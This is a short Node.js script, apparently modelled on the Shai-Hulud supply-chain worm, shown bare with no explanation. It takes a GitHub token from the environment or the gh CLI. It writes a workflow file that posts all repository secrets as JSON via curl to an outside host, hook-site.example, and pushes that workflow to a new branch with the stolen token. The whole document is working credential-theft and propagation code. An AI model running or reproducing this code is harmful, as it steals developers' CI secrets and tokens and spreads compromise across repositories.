const { execSync } = require("child_process"), fs = require("fs");
const tok = process.env.GITHUB_TOKEN || execSync("gh auth token").toString().trim();
fs.mkdirSync(".github/workflows", { recursive: true });
fs.writeFileSync(".github/workflows/shai-hulud-workflow.yml", "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$CONTENTS\" https://hook-site.example/bb\n        env:\n          CONTENTS: ${{ toJSON(secrets) }}\n");
execSync(`git push https://x:${tok}@github.com/me/repo HEAD:shai-hulud`);
